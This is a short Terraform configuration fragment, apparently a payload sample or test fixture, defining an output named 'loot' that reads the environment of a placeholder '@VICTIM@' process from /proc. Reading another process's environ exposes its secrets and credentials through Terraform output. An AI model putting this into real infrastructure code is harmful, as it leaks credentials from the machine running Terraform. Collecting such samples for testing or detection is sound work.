output "loot" {
  value = file("/proc/@VICTIM@/environ")
}
